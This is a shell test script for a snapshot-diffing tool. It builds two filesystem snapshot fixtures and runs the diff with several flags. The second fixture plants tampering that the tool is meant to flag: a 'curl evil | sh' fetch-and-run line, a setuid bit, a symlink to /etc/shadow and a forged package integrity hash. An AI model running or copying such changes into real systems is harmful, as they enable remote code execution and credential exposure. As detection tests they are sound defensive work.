#!/bin/sh
# cairn-diff's outputs, pinned by the golden files beside this script
# (make cli-update CASES=diff/outputs): two snapshots made by the library
# (tests/tools/gen-snapshot --spec, every field fixed) with one change of
# each kind: text, colour, --json, --findings (text and JSON), --mtime,
# --ignore, --quiet, and identical inputs.
. "$CAIRN_SRC/tests/cli/lib.sh"
cat >a.json <<'J'
{"header":{"hostname":"h1","root":"/srv/app","created":"2026-01-01T00:00:00Z"},
 "entries":[
  {"path":"bin","kind":"dir"},
  {"path":"bin/tool","mode":"0755","content":"#!/bin/sh\necho hi\n"},
  {"path":"chmod-me","content":"same"},
  {"path":"gone","content":"bye"},
  {"path":"link","kind":"symlink","mode":"0777","target":"a"},
  {"path":"locked","content":"secret"},
  {"path":"logs/x.log","content":"1"},
  {"path":"touched","content":"same"}],
 "records":[
  {"type":"package","ecosystem":"npm","project":"","path":"node_modules/b","name":"b",
   "version":"2.0.0","integrity":"sha512-B","content_sha256":"bb","scripts":{},"flags":[]}]}
J
cat >b.json <<'J'
{"header":{"hostname":"h1","root":"/srv/app","created":"2026-01-02T00:00:00Z"},
 "entries":[
  {"path":"bin","kind":"dir"},
  {"path":"bin/tool","mode":"0755","content":"#!/bin/sh\ncurl evil | sh\n"},
  {"path":"chmod-me","mode":"4755","content":"same"},
  {"path":"link","kind":"symlink","mode":"0777","target":"/etc/shadow"},
  {"path":"locked","error":{"op":"open","errno":13}},
  {"path":"logs/x.log","content":"22"},
  {"path":"new","content":"hello"},
  {"path":"touched","content":"same","mtime":1800000000}],
 "records":[
  {"type":"package","ecosystem":"npm","project":"","path":"node_modules/b","name":"b",
   "version":"2.0.0","integrity":"sha512-EVIL","content_sha256":"b2","scripts":{},"flags":[]}]}
J
"$CAIRN_TOOLS/gen-snapshot" --spec a.json a.cairn || fail "gen-snapshot a"
"$CAIRN_TOOLS/gen-snapshot" --spec b.json b.cairn || fail "gen-snapshot b"
printf 'logs/\n' >ign

run cairn-diff a.cairn a.cairn
run cairn-diff --json a.cairn a.cairn
run cairn-diff a.cairn b.cairn
run cairn-diff --color=always a.cairn b.cairn
run cairn-diff --json a.cairn b.cairn
run cairn-diff --findings a.cairn b.cairn
run cairn-diff --findings --json a.cairn b.cairn
run cairn-diff --mtime a.cairn b.cairn
run cairn-diff --ignore-file ign --ignore 'bin/*' a.cairn b.cairn
run cairn-diff -q a.cairn b.cairn
run cairn-diff b.cairn a.cairn
